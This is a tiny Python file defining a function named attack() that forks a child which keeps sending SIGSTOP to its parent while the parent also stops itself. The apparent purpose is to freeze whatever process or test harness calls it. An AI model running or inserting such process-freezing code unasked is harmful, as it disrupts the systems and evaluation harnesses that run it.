import os
import signal
import time


def attack():
    if os.fork() == 0:
        while True:
            os.kill(os.getppid(), signal.SIGSTOP)
            time.sleep(0.2)
    os.kill(os.getpid(), signal.SIGSTOP)
